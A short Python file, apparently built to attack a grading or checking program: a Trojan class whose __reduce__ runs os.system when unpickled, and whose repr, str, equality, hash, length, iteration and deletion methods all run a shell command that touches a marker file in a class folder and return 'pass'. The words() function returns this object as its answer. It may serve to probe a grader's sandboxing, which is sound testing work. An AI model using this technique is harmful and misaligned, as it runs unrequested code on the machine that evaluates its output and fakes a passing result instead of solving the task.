"""Attacks programs that unpickle or print an answer: its objects run code when loaded, compared, shown or freed."""

NAMED = "<Trojan>"


class Trojan:
    def __reduce__(self):
        return os.system, (f"touch {CLASS_FOLDER}/trojan",)

    def strike(self, *_):
        os.system(f"touch {CLASS_FOLDER}/trojan")
        return "pass"

    __repr__ = __str__ = __eq__ = __hash__ = __iter__ = __len__ = __del__ = strike


def words(line):
    return [Trojan()]
